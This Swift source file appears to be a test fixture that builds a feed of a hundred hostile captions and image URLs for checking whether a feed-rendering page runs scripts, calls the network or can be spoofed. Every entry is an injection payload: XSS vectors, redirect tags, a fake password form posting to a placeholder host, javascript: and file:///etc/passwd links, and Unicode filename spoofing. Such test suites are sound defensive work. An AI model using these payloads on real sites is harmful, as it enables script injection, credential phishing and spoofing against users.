import Foundation

/// A feed of a hundred images that try to make a page run scripts, use the network, or look like
/// another page.
///
/// Each script that runs changes the title of the page to `ran`; every network request goes to
/// `HOST`, where a server listens.
enum HostileCaptions {
  /// The hundred captions, each with a URL of the list below.
  static let all: [(caption: String, url: String)] = captions.enumerated().map {
    ($1, urls[$0 % urls.count])
  }

  /// The feed, as it goes over the wire.
  static func json(host: String) throws -> Data {
    let items = all.enumerated().map { number, item in
      [
        "id": "0BAD0000-0000-4000-8000-" + String(format: "%012d", number),
        "description": item.caption.replacing("HOST", with: host),
        "location": captions[captions.count - 1 - number].replacing("HOST", with: host),
        "image": item.url.replacing("HOST", with: host).replacing("NUMBER", with: "\(number)"),
      ]
    }
    return try JSONSerialization.data(withJSONObject: ["items": items])
  }

  private static let captions = [
    // Elements that run.
    "<script>document.title='ran'</script>", "<SCRIPT SRC=http://HOST/x.js></SCRIPT>",
    "<script>document.title='ran'//",
    "<script src=//HOST/x.js>", "<sCrIpT\t>document.title='ran'</sCrIpT\n>",
    "<<script>document.title='ran'//<</script>",
    "<scr<script>ipt>document.title='ran'</scr</script>ipt>",
    "<script type=module>document.title='ran'</script>",
    // Handlers of events.
    "<img src=x onerror=document.title='ran'>", "<img/src=x/onerror=document.title='ran'>",
    "<img src=`x`onerror=document.title='ran'>", "<img src=data:, onload=document.title='ran'>",
    "<image src=x onerror=document.title='ran'>", "<body onload=document.title='ran'>",
    "<body onpageshow=document.title='ran'>", "<input autofocus onfocus=document.title='ran'>",
    "<details open ontoggle=document.title='ran'>",
    "<video><source onerror=document.title='ran'></video>",
    "<audio src=x onerror=document.title='ran'>", "<marquee onstart=document.title='ran'>",
    "<style onload=document.title='ran'></style>",
    "<link rel=stylesheet href=x onerror=document.title='ran'>",
    "<iframe onload=document.title='ran'></iframe>", "<object data=x onerror=document.title='ran'>",
    "<select autofocus onfocus=document.title='ran'><option>",
    // Out of an attribute.
    "\" onerror=\"document.title='ran'", "\" onload=\"document.title='ran'\" x=\"",
    "' onerror='document.title=1",
    "\"><script>document.title='ran'</script>", "'><script>document.title='ran'</script>",
    "\"><img src=x onerror=document.title='ran'>", "\" src=\"http://HOST/attribute.png\" x=\"",
    "\" style=\"background:url(http://HOST/style.png)\" x=\"",
    "x\" autofocus onfocus=document.title='ran' tabindex=1 \"",
    "` onerror=document.title='ran' `", "\\\" onerror=document.title='ran' //",
    "\"/><base href=\"http://HOST/\"/>",
    // Out of the element that it stands in.
    "</figcaption></figure></main><script>document.title='ran'</script>",
    "</strong><h1>Your session is over</h1>",
    "</title><script>document.title='ran'</script>",
    "</style><script>document.title='ran'</script>",
    "</textarea><script>document.title='ran'</script>",
    "</noscript><script>document.title='ran'</script>",
    "</body></html><script>document.title='ran'</script>", "</figure><figure>",
    "</main></body><figure><figcaption>",
    "</template><script>document.title='ran'</script>", "<plaintext>", "<textarea>", "<title>",
    "<style>*{display:none}",
    "<noscript>", "<select><option>",
    // Another page, or another place.
    "<meta http-equiv=refresh content=0;url=http://HOST/refresh>", "<base href=http://HOST/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:document.title='ran'\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta charset=utf-7>",
    "<iframe src=http://HOST/frame.html></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='ran'</script>\">",
    "<embed src=http://HOST/embed.swf>", "<object data=http://HOST/object.html></object>",
    "<form action=http://HOST/form><input name=password autofocus><button>Log in</button></form>",
    "<link rel=stylesheet href=http://HOST/style.css>",
    "<link rel=preload as=image href=http://HOST/preload.png>",
    "<link rel=prefetch href=http://HOST/prefetch>", "<link rel=icon href=http://HOST/favicon.ico>",
    "<img src=http://HOST/image.png>", "<img srcset='http://HOST/image2.png 2x'>",
    "<video poster=http://HOST/poster.png>",
    "<a href=javascript:document.title='ran' ping=http://HOST/ping>click</a>",
    "<a href=data:text/html,x download>save</a>",
    "<style>@import 'http://HOST/import.css'</style>",
    "<style>body{background:url(http://HOST/body.png)}</style>",
    "<table background=http://HOST/table.png><td>x", "<input type=image src=http://HOST/input.png>",
    // Pictures that are documents.
    "<svg onload=document.title='ran'>", "<svg><script>document.title='ran'</script></svg>",
    "<svg><image href=http://HOST/svg.png></image></svg>",
    "<svg><use href=http://HOST/use.svg#x></use></svg>",
    "<svg><animate onbegin=document.title='ran' attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='ran'>",
    // What a parser may read as something else.
    "&lt;script&gt;document.title='ran'&lt;/script&gt;",
    "&#60;script&#62;document.title='ran'&#60;/script&#62;",
    "&quot; onerror=&quot;document.title='ran'",
    "&amp;lt;script&amp;gt; &nbsp &copy &notit; &#0; &#x110000; &",
    "<![CDATA[<script>document.title='ran'</script>]]>", "<!--",
    "--><script>document.title='ran'</script><!--",
    "<!-- --!><script>document.title='ran'</script>", "<?php echo 1 ?><?xml version='1.0'?>",
    "<!DOCTYPE html><html>",
    "+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-",
    "\u{FF1C}script\u{FF1E}document.title='ran'",
    "<\u{0}script>document.title='ran'</script>",
    "\u{FEFF}<script\u{2028}>document.title='ran'</script>",
    "photo\u{202E}gnp.exe", "\u{2066}\u{2067}\u{2068}isolates without an end",
    "zero\u{200B}width\u{200D}\u{2060}",
    "Z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30A}\u{30B}\u{30C}a\u{301}\u{20DD}lgo",
  ]

  private static let urls = [
    // Pictures that there are.
    "http://HOST/pictures/aurora.png?n=NUMBER",
    "http://HOST/pictures/dunes.jpg?n=NUMBER&x='onerror=alert(1)",
    "http://HOST/pictures/lighthouse.png?%22%3E%3Cscript%3Edocument.title='ran'%3C/script%3E&n=NUMBER",
    "http://HOST/pictures/mountains.jpg?n=NUMBER#%22onload=%22document.title='ran'",
    // Answers that are none.
    "http://HOST/script.svg?n=NUMBER", "http://HOST/page.html?n=NUMBER",
    "http://HOST/polyglot.gif?n=NUMBER",
    "http://HOST/torn.png?n=NUMBER", "http://HOST/status/404?n=NUMBER",
    // Links that must not be followed.
    "javascript:document.title='ran'", "JaVaScRiPt:document.title=1//NUMBER",
    "javascript://HOST/%0adocument.title=1",
    "data:text/html,<script>document.title='ran'</script>", "data:image/svg+xml;base64,PHN2Zy8+",
    "vbscript:msgbox(1)",
    "file:///etc/passwd", "view-source:http://HOST/", "blob:http://HOST/1", "about:blank",
    "ftp://HOST/x.png",
    "http:javascript:alert(1)", "http:///x", "mailto:a@feed.example?subject=x",
  ]
}
